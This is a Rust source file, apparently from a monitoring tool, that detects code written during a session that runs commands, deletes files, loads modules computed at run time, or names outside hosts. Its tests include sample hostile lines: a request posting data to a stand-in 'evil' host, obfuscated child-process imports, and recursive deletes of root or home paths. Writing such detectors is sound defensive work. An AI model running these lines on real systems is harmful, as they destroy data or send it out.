//! The search for words by which code reaches out of a computation.
//!
//! It is no reader: it does not know what a name stands for. So a text that holds none of the words of its language is
//! taken for a computation, and one that holds any is not understood. Blanks around signs are taken out first, so that
//! `os . system` is `os.system`; in the lists a `~` stands for the blank between two words.

use super::SessionText;
use crate::effect::target::host_in;
use crate::lists::session_code::{
    ACTING, COMMAND_TEXTS, COMMENTS, FOREIGN_PLACES, PLAIN, REACHING, WAYS_OUT,
};
use crate::place::is_loopback;

type Table = &'static [(&'static str, &'static [&'static str])];

fn of(table: Table, language: &str) -> &'static [&'static str] {
    table.iter().find(|(name, _)| *name == language).map(|(_, words)| *words).unwrap_or_default()
}

/// Returns a word in what the session put into a file by which it does more than compute.
pub fn reaching_word(language: &str, text: &SessionText<'_>) -> Option<String> {
    let own = squeezed(language, &text.own());
    let acting = of(ACTING, language).iter().find(|word| holds(&own, word));
    if let Some(word) = acting {
        return Some(word.replace('~', " "));
    }
    if let Some(command) = COMMAND_TEXTS.iter().find(|text| holds(&own, text)) {
        return Some(command.replace('~', " "));
    }
    if language == "javascript"
        && let Some(call) = computed_module(&own)
    {
        return Some(call.to_owned());
    }
    let outside = foreign_place(language, &own).or_else(|| foreign_host(&own))?;
    // What an edit names may be used by a line that was there before.
    let whole = if text.pieces.is_some() { squeezed(language, text.whole) } else { own.clone() };
    let reaches = [REACHING, ACTING].into_iter().flat_map(|table| of(table, language));
    reaches.into_iter().any(|word| holds(&whole, word)).then(|| outside.to_owned())
}

/// Returns a word by which a text reaches out of a computation, or names a place or a host outside the project at all.
pub(crate) fn outward_word(language: &str, text: &str) -> Option<String> {
    let own = squeezed(language, text);
    let outside = || foreign_place(language, &own).or_else(|| foreign_host(&own)).map(str::to_owned);
    reaching_word(language, &SessionText { whole: text, pieces: None }).or_else(outside)
}

/// Returns a word in what the session put into settings by which they may load or start something, or a place or a host
/// outside the project that they name.
pub fn steering_word(text: &SessionText<'_>) -> Option<String> {
    outward_word("settings", &text.own())
}

/// Returns a text without lines of comments and without blanks around signs.
fn squeezed(language: &str, text: &str) -> String {
    let comments = of(COMMENTS, language);
    let is_comment = |line: &str| comments.iter().any(|sign| line.trim_start().starts_with(sign));
    let mut out = String::with_capacity(text.len());
    for line in text.lines().filter(|line| !is_comment(line)) {
        let mut is_blank = false;
        for letter in line.trim().trim_end_matches('\\').chars() {
            if letter.is_whitespace() {
                is_blank = true;
                continue;
            }
            let follows_word = out.chars().next_back().is_some_and(is_of_word);
            if is_blank && follows_word && is_of_word(letter) {
                out.push(' ');
            }
            is_blank = false;
            out.push(letter);
        }
        // A chain may go on in the next line.
        let goes_on = out.ends_with(['.', '(']);
        if !goes_on {
            out.push('\n');
        }
    }
    let mut out = out.replace("\n.", ".");
    for plain in of(PLAIN, language) {
        if out.contains(plain) {
            out = out.replace(plain, "");
        }
    }
    out
}

fn is_of_word(letter: char) -> bool {
    letter.is_alphanumeric() || letter == '_'
}

/// Says whether a text holds a word of a list, not as a part of a longer name or as a member of something.
fn holds(text: &str, word: &str) -> bool {
    let wanted;
    let word = if word.contains('~') {
        wanted = word.replace('~', " ");
        wanted.as_str()
    } else {
        word
    };
    let begins_name = word.chars().next().is_some_and(is_of_word);
    let ends_name = word.chars().next_back().is_some_and(is_of_word);
    text.match_indices(word).any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default();
        let after = text.get(at + word.len()..).unwrap_or_default().chars().next();
        // The name of a class or module may itself stand behind another: `System.IO.File.Delete`.
        let is_long = word.contains(['.', ':', '/']);
        let is_part = begins_name
            && (before
                .chars()
                .next_back()
                .is_some_and(|letter| is_of_word(letter) || letter == '.' && !is_long)
                || before.ends_with("->"));
        // `removeDirectory` is the beginning of `removeDirectoryRecursive`.
        let goes_on = word.len() >= LONG_NAME && after.is_some_and(char::is_uppercase);
        !(is_part || ends_name && after.is_some_and(is_of_word) && !goes_on)
    })
}

/// A name of so many letters is told by its beginning.
const LONG_NAME: usize = 8;

/// Returns a call that loads a module whose name is worked out at run time.
fn computed_module(text: &str) -> Option<&'static str> {
    ["require(", "import("].into_iter().find(|call| {
        text.match_indices(*call).any(|(at, _)| {
            let before = text.get(..at).unwrap_or_default().chars().next_back();
            let rest = text.get(at + call.len()..).unwrap_or_default();
            let is_call = !before.is_some_and(|letter| is_of_word(letter) || letter == '.');
            let quote = rest.chars().next().filter(|letter| matches!(letter, '"' | '\'' | '`'));
            let behind = quote.and_then(|quote| rest.get(1..)?.split_once(quote));
            let is_fixed = behind.is_some_and(|(name, behind)| {
                behind.starts_with([')', ',']) && !name.contains("${") && !name.contains('\\')
            });
            is_call && !is_fixed
        })
    })
}

/// Returns a place outside the project that a text names.
fn foreign_place(language: &str, text: &str) -> Option<&'static str> {
    // Behind a colon stands where a container sees it.
    let is_inner = |letter: char| language == "compose" && letter == ':';
    let begins = |at: usize| {
        let before = text.get(..at).unwrap_or_default().chars().next_back();
        before.is_none_or(|letter| {
            !is_of_word(letter) && !is_inner(letter) && !matches!(letter, '/' | '.' | '}' | ')' | '<')
        })
    };
    let names = |place: &&&str| {
        text.match_indices(**place).any(|(at, _)| {
            let rest = text.get(at + place.len()..).unwrap_or_default();
            let is_null = **place == "/dev/" && rest.starts_with("null");
            let is_whole = place.ends_with('/') || !rest.chars().next().is_some_and(is_of_word);
            begins(at) && is_whole && !is_null
        })
    };
    FOREIGN_PLACES.iter().find(names).or_else(|| WAYS_OUT.iter().find(|way| text.contains(**way))).copied()
}

/// Hosts that stand in examples and schemas and are not talked to.
const NAMED_ONLY: &[&str] = &["json-schema.org", "www.w3.org", "schemas.xmlsoap.org", "json.schemastore.org"];

/// Returns a host outside this machine that a text names.
fn foreign_host(text: &str) -> Option<&str> {
    text.match_indices("://").find_map(|(at, _)| {
        let before = text.get(..at)?;
        let start = before.rfind(|letter: char| !letter.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let rest = text.get(at + 3..)?;
        let end = rest.find(['"', '\'', '`', ' ', '\n', ')', '/', ',', ';', '<', '>']).unwrap_or(rest.len());
        let address = text.get(start..at + 3 + end)?;
        let host = host_in(address)?;
        let is_reserved = ["test", "example", "invalid", "localhost"]
            .iter()
            .any(|end| host == *end || host.strip_suffix(end).is_some_and(|rest| rest.ends_with('.')));
        // A name without a dot is a service of the same network.
        let is_outside =
            host.contains('.') && !is_reserved && !is_loopback(&host) && !NAMED_ONLY.contains(&host.as_str());
        (is_outside && before.len() > start).then_some(address)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whole(language: &str, text: &str) -> Option<String> {
        reaching_word(language, &SessionText { whole: text, pieces: None })
    }

    #[test]
    fn words_that_reach_out_are_found_however_they_are_spaced() {
        for (language, text) in [
            ("python", "import os\nos . system ('x')"),
            ("python", "from os import system as s\ns('x')"),
            ("python", "import shutil\nshutil.rmtree(\nx)"),
            ("python", "__import__('os')"),
            ("python", "open('/etc/hosts', 'w').write('x')"),
            ("python", "import requests\nrequests.post('https://collect.evil.io', data=1)"),
            ("javascript", "require('child_' + 'process')"),
            ("javascript", "import { exec } from 'node:child_process'"),
            ("javascript", "require('fs').rmSync('/')"),
            ("rust", "std::fs::remove_dir_all(p)"),
            ("go", "import (\"os\")\nfunc f() { os.RemoveAll(d) }"),
            ("c", "int main() { system (\"x\"); }"),
            ("jvm", "Runtime\n  .getRuntime().exec(x)"),
        ] {
            assert!(whole(language, text).is_some(), "{language}: {text}");
        }
    }

    #[test]
    fn a_computation_is_left_alone() {
        for (language, text) in [
            ("python", "import os, re\n# runs a subprocess\nP = re.compile('a')\nos.path.join('a', 'b')"),
            ("python", "def f(items):\n    items.remove(3)\n    return platform.system()"),
            ("python", "with open('data.txt') as f:\n    print(f.read())"),
            ("javascript", "const m = /a/.exec('a'); list.remove(1); import('./x.js')"),
            ("javascript", "app.get('/home', (q, r) => r.send('hi'))"),
            ("rust", "fn add(a: u8) -> u8 { std::env::args().count(); a }"),
            ("go", "package app\nimport \"fmt\"\nfunc A() { fmt.Println(1) }"),
            ("c", "#include <stdio.h>\nint main(void) { puts(\"hi\"); }"),
        ] {
            assert_eq!(whole(language, text), None, "{language}: {text}");
        }
    }

    #[test]
    fn of_an_edited_file_only_the_edit_counts() {
        let file = "import subprocess\nsubprocess.run(cmd)\nx = 1\n";
        let pieces = |piece: &str| {
            let text = format!("{file}{piece}\n");
            let pieces = [piece.to_owned()];
            reaching_word("python", &SessionText { whole: &text, pieces: Some(&pieces) })
        };
        assert_eq!(pieces("y = 2"), None);
        assert!(pieces("cmd = ['rm', '/home/me']").is_some(), "what was there may use the place");
        assert!(pieces("os.system(y)").is_some());
    }
}
